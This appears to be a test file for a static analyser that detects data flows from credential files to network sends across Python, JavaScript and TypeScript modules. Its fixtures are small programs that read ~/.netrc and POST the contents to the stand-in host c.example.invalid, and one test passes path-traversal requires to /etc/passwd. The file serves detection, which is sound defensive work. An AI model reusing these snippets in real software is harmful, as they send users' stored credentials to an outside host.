import { beforeAll, expect, test } from 'vitest';
import { loadGrammars } from '../../src/parse/grammar.js';
import { analyseFiles, flowsOf, ofType } from './analyse-code.js';

beforeAll(() => loadGrammars(['javascript', 'typescript', 'python']));

const SEND_PY = `import json, urllib.request\nclass Sender:\n    def __init__(self, url):\n        self.url = url\n    def send(self, what):\n        urllib.request.urlopen(urllib.request.Request(self.url, data=json.dumps(what).encode()))\n`;
const FLOW = ['credential-file > http c.example.invalid'];

test.each([
  [
    'a package and a class',
    {
      'main.py': `from lib.collect import gather\nfrom lib import report\nreport.Sender('https://c.example.invalid').send(gather())\n`,
      'lib/__init__.py': '',
      'lib/collect.py': `import os\ndef gather():\n    return {'k': open(os.path.expanduser('~/.netrc')).read()}\n`,
      'lib/report.py': SEND_PY,
    },
  ],
  [
    'imports relative to the file',
    {
      'pkg/main.py': `from .a import load\nfrom .b import Sender as S\nS('https://c.example.invalid').send(load())\n`,
      'pkg/a.py': `from os.path import expanduser as e\ndef load():\n    with open(e('~/.netrc')) as f:\n        return f.read()\n`,
      'pkg/b.py': SEND_PY,
    },
  ],
  [
    'a module with a dot in its name',
    {
      'run.py': `import tools.net\ntools.net.Sender('https://c.example.invalid').send(open('/home/u/.netrc').read())\n`,
      'tools/__init__.py': '',
      'tools/net.py': SEND_PY,
    },
  ],
  [
    'every name of a module',
    {
      'run.py': `from net import *\nSender('https://c.example.invalid').send(open('/home/u/.netrc').read())\n`,
      'net.py': SEND_PY,
    },
  ],
  [
    'CommonJS',
    {
      'index.js': `const { read } = require('./lib/read'); const send = require('./lib/send.js'); send(read('.netrc'));`,
      'lib/read.js': `const fs = require('fs'), os = require('os'); exports.read = (n) => fs.readFileSync(os.homedir() + '/' + n, 'utf8');`,
      'lib/send.js': `module.exports = function (d) { return fetch('https://c.example.invalid', { method: 'POST', body: d }); };`,
    },
  ],
  [
    'modules of JavaScript',
    {
      'src/main.mjs': `import send, { URL_ } from './send.mjs'; import * as io from './io.mjs'; send(URL_, io.read());`,
      'src/send.mjs': `export const URL_ = 'https://c.example.invalid'; export default async (u, d) => fetch(u, { method: 'POST', body: d });`,
      'src/io.mjs': `export { slurp as read } from './deep.mjs';`,
      'src/deep.mjs': `import { readFileSync } from 'node:fs'; export function slurp() { return readFileSync('/home/u/.netrc', 'utf8'); }`,
    },
  ],
  [
    'TypeScript that is imported by the name of its output',
    {
      'main.ts': `import { Client } from './client.js';\nimport { readFileSync } from 'node:fs';\nconst c: Client = new Client('https://c.example.invalid');\nawait c.push(readFileSync('/home/u/.netrc') as unknown as string);`,
      'client.ts': `export class Client { constructor(private readonly url: string) { this.url = url; } async push(body: string): Promise<void> { await fetch(this.url, { method: 'POST', body }); } }`,
    },
  ],
  [
    'modules that import each other',
    {
      'a.js': `const b = require('./b'); exports.get = () => require('fs').readFileSync('/home/u/.netrc'); b.go();`,
      'b.js': `const a = require('./a'); exports.go = () => fetch('https://c.example.invalid', { method: 'POST', body: a.get() });`,
    },
  ],
])('%s', (_, files) => {
  const { facts } = analyseFiles(files as unknown as Record<string, string>);
  expect(flowsOf(facts)).toEqual(FLOW);
});

test('the way of a secret names the calls it came through', () => {
  const { facts } = analyseFiles({
    'main.py': `from read import load\nimport requests\ndata = load()\nrequests.post('https://c.example.invalid', data=data)\n`,
    'read.py': `def load():\n    return open('/home/u/.netrc').read()\n`,
  });
  const [flow] = ofType(facts, 'flow');
  expect(flow?.unit.file).toBe('main.py');
  expect(flow?.secret.unit.file).toBe('read.py');
  expect(flow?.steps.map(({ unit, offset }) => `${unit.file} ${unit.text.slice(offset, offset + 6)}`)).toEqual([
    'main.py load()',
  ]);
});

test('a file outside of the skill is not looked for', () => {
  const { facts } = analyseFiles({
    'a.js': `require('../../../etc/passwd'); require('/etc/x'); require('./missing');`,
  });
  expect(facts).toEqual([]);
});
